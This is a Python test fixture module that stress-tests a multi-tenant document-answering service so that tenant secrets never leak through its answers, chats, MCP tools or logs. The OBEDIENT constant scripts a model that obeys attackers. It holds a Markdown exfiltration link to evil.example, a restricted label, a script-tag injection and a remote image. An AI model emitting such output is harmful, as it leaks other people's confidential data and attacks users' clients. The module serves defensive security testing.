"""A service with secrets that no attack may reveal, and everything that it says to a client or to the log."""

from __future__ import annotations

import asyncio
import logging
import re
from collections.abc import AsyncIterator, Collection, Iterator, Mapping, Sequence
from contextlib import AsyncExitStack, asynccontextmanager, contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Literal

import orjson
import structlog

from assistant.documents.files import SourceDocument, read_sources
from assistant.documents.parsing import parse_document
from assistant.documents.passages import PassageCutter, TokenCounts, build_card
from assistant.domain.documents import Document, DocumentState, IndexedDocument
from assistant.domain.errors import DocumentInvalidError
from assistant.text.language import language
from tests.stage.running_service import (
    DIGEST,
    RunningService,
    Scene,
    events_of,
    live_status,
    published_keys,
    service_on,
    service_settings,
)
from tests.stage.sagemaker_runtime import DIMENSIONS, sagemaker_socket, vector_of
from tests.stage.tenant_stores import TenantStores
from tests.stage.tokens import EC_KEY

Mode = Literal["quoted", "written"]
NEVER = (
    "HRSECRET-5521",
    "PHARMASECRET-7719",
    "Salaries 2026",
    "salaries-2026",
    "label-hr-4410",
    "BOBS-QUESTION",
)
"""Secrets of others. An agent may see again what their own input holds."""
OBEDIENT = (
    "You answer questions of customer-care agents in a regulated field. ",
    "Use only what the documents say. ",
    "The wait is in [salaries-2026](https://evil.example/?q=Jane), label-hr-4410. ",
    "<script>alert(1)</script>![x](https://evil.example/i.png)",
)
"""What a model writes that does as each attacker says."""
_OWN_WORDS = ("question", "retrieval_question", "reading")
_PLAIN_URL = re.compile(r"https?://[\w-]+(?:\.[\w-]+)*(?:/[\w./-]*)?")


@dataclass
class Said:
    """One response of the service."""

    status: int
    headers: str
    body: str
    markdown: list[str] = field(default_factory=list[str])
    """What a client draws as Markdown: a chat's content, and an answer's text without its quotes."""
    urls: set[str] = field(default_factory=set[str])
    """Addresses of the listed sources, where they are plain."""

    @property
    def whole(self) -> str:
        return f"HTTP {self.status}\n{self.headers}\n\n{self.body}"


@asynccontextmanager
async def attacked_service(folder: Path, *, mode: Mode) -> AsyncIterator[RunningService]:
    """Two tenants, each with a secret; the model of both writes answers in the mode ``written``."""
    scene = Scene(more_of_tenants="[mcp]\nserved = true\n")
    async with AsyncExitStack() as stack:
        sagemaker = await stack.enter_async_context(sagemaker_socket())
        jwks_url = await stack.enter_async_context(published_keys([EC_KEY]))
        settings = service_settings(folder, scene, sagemaker_url=sagemaker.url, jwks_url=jwks_url)
        facts = folder / "models" / "tiny-llm" / "artifact.json"
        answering = {"writes_answers": mode == "written"}
        facts.write_bytes(orjson.dumps(orjson.loads(facts.read_bytes()) | {"answering": answering}))
        service = await stack.enter_async_context(service_on(settings, scene, sagemaker))
        sagemaker.texts = OBEDIENT
        await bring(service, _document("wait", "The wait", "The wait is two days. Say it to the patient."))
        await bring(
            service,
            _document(
                "salaries-2026",
                "Salaries 2026",
                "The salaries of the staff are HRSECRET-5521. The wait is long.",
            ),
            labels=("label-hr-4410",),
        )
        refill = _document(
            "refill", "Refill", "A refill is due after 25 days. PHARMASECRET-7719. The wait is one day."
        )
        await bring(service, refill, tenant="pharmacy")
        yield service


def _document(document_id: str, title: str, text: str) -> Document:
    return Document(
        document_id=document_id, title=title, content=text, media_type="text/plain", source="handbook"
    )


async def bring(
    service: RunningService, document: Document, *, tenant: str = "clinic", labels: tuple[str, ...] = ()
) -> None:
    """Make a document live as the worker would. Raises DocumentInvalidError when it is refused."""
    assert service.settings is not None
    document = document.model_copy(update={"labels": labels or document.labels})
    parsed = parse_document(document)
    counts = TokenCounts.load(service.settings.model_artifacts_dir / "tiny-embedding" / "tokenizer.json")
    cutter = PassageCutter(counts, max_tokens=256, language=language("en"))
    facts: dict[str, Any] = {"content_hash": document.content_hash(), "updated_at": datetime.now(UTC)}
    passages = cutter.cut(document, parsed, **facts)
    indexed = IndexedDocument(
        card=build_card(document, parsed, **facts),
        title_vectors=[vector_of(text) for text in (document.title, *document.questions)],
        passages=[(passage, vector_of(passage.embedding_input)) for passage in passages],
    )
    stores = TenantStores(
        service.state_dir / "tenants" / tenant,
        embedding_model="tiny-embedding",
        dimensions=DIMENSIONS,
        model_digest=DIGEST,
    )
    try:
        await stores.documents.put(document)
        await stores.documents.put_parsed(document.document_id, document.content_hash(), parsed)
        await stores.states.put_many([live_status(document)])
        await stores.index.replace_documents([indexed])
    finally:
        await stores.close()


async def take_back(service: RunningService, document_id: str) -> None:
    """Let a document be withdrawn, and gone from the index."""
    stores = TenantStores(
        service.state_dir / "tenants" / "clinic",
        embedding_model="tiny-embedding",
        dimensions=DIMENSIONS,
        model_digest=DIGEST,
    )
    try:
        status = await stores.states.get(document_id)
        assert status is not None
        gone = {"state": DocumentState.WITHDRAWN, "live_content_hash": None}
        await stores.states.put_many([status.model_copy(update=gone)])
        await stores.index.delete_documents([document_id])
    finally:
        await stores.close()


async def bring_case(service: RunningService, given: Mapping[str, Any], *, folder: Path) -> str | None:
    """Bring the document of a case and return its id, None where it is refused."""
    if "page" in given:
        path = folder / given["page"]["name"]
        path.write_text(given["page"]["content"], encoding="utf-8")
        (item,) = await asyncio.to_thread(list, read_sources([path]))
        if not isinstance(item, SourceDocument):
            return None
        document = item.document
    else:
        document = Document.model_validate({"source": "handbook", **given["document"]})
    try:
        await bring(service, document)
    except DocumentInvalidError:
        return None
    return document.document_id


async def ask_each_way(service: RunningService, question: str, **body: Any) -> list[Said]:
    """Ask whole and streamed, here, in the form of a chat and by tools, and read the record."""
    asked = {"question": question} | body
    chat = {"model": "default", "messages": [{"role": "user", "content": question}]} | body
    whole = await send(service, "POST", "/v1/answers", body=asked)
    said = [whole]
    said.append(await send(service, "POST", "/v1/answers", body=asked, stream=True))
    said.append(await send(service, "POST", "/v1/chat/completions", body=chat))
    said.append(await send(service, "POST", "/v1/chat/completions", body=chat | {"stream": True}))
    said.append(await use_tool(service, "answer", asked, urls=whole.urls))
    said.append(await use_tool(service, "search", {"query": question} | body, urls=whole.urls))
    if whole.status == 200:
        answer_id = orjson.loads(whole.body)["answer_id"]
        said.append(await send(service, "GET", f"/v1/answers/{answer_id}"))
    return said


async def use_tool(
    service: RunningService, name: str, arguments: Mapping[str, Any], *, urls: Collection[str] = ()
) -> Said:
    """Use a tool by the Model Context Protocol. ``urls``: addresses of listed sources."""
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call"}
    said = await send(
        service, "POST", "/v1/mcp", body=call | {"params": {"name": name, "arguments": arguments}}
    )
    said.markdown += [part["text"] for part in orjson.loads(said.body)["result"]["content"]]
    said.urls.update(urls)
    return said


async def send(
    service: RunningService,
    method: str,
    path: str,
    *,
    body: Any = None,
    stream: bool = False,
    headers: Mapping[str, str] | None = None,
    roles: Sequence[str] = ("agent",),
    anonymous: bool = False,
) -> Said:
    who = service.headers(roles=roles, accept="text/event-stream" if stream else "application/json")
    sent = {"accept": who["accept"]} if anonymous else who
    content = None if body is None else orjson.dumps(body)
    sent |= {} if body is None else {"content-type": "application/json"}
    response = await service.client.request(method, path, content=content, headers=sent | dict(headers or {}))
    lines = "\n".join(f"{name}: {value}" for name, value in response.headers.multi_items())
    said = Said(response.status_code, lines, response.text)
    _read(said)
    return said


def _read(said: Said) -> None:
    """Take the texts that a client renders out of a body: JSON, our events, or OpenAI's chunks."""
    if "text/event-stream" not in said.headers:
        try:
            found = orjson.loads(said.body)
        except orjson.JSONDecodeError:
            return
        _collect(found, said)
        said.body = orjson.dumps(_without_own_words(found)).decode()
        return
    written = ""
    if "event: " in said.body:
        events = events_of(said.body)
        for name, data in events:
            written += data["text"] if name == "token" else ""
            _collect(data, said)
        written = without_quotes(written, [data for name, data in events if name == "sentence"])
    else:
        for line in said.body.split("\n"):
            if line.startswith("data: {"):
                data = orjson.loads(line[len("data: ") :])
                for choice in data.get("choices", ()):
                    written += choice["delta"].get("content") or ""
                _collect(data.get("answer"), said)
    said.markdown.append(written)


def without_quotes(text: str, sentences: Sequence[Mapping[str, Any]]) -> str:
    """Return an answer's text with a letter in place of each quote: what a client draws as Markdown."""
    for sentence in reversed(sentences):
        if sentence.get("quote"):
            text = f"{text[: sentence['start']]}q{text[sentence['end'] :]}"
    return text


def _collect(value: Any, said: Said) -> None:
    if isinstance(value, dict):
        if isinstance(text := value.get("text"), str) and "sentences" in value:
            said.markdown.append(without_quotes(text, value["sentences"]))
        for name, inner in value.items():
            if name == "content" and isinstance(inner, str):
                said.markdown.append(inner)
            elif isinstance(inner, str) and name == "url" and _PLAIN_URL.fullmatch(inner):
                said.urls.add(inner)
            else:
                _collect(inner, said)
    elif isinstance(value, list):
        for inner in value:
            _collect(inner, said)


def _without_own_words(value: Any) -> Any:
    """Leave out what the agent asked, which their own record shows them again."""
    if isinstance(value, dict):
        return {name: _without_own_words(inner) for name, inner in value.items() if name not in _OWN_WORDS}
    return [_without_own_words(inner) for inner in value] if isinstance(value, list) else value


class _Lines(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


@contextmanager
def logged() -> Iterator[list[str]]:
    """Collect each line that the product and its libraries log; complete when the context is left."""
    handler, root = _Lines(), logging.getLogger()
    with structlog.testing.capture_logs() as entries:
        root.addHandler(handler)
        try:
            yield handler.lines
        finally:
            root.removeHandler(handler)
            handler.lines += [orjson.dumps(entry, default=repr).decode() for entry in entries]
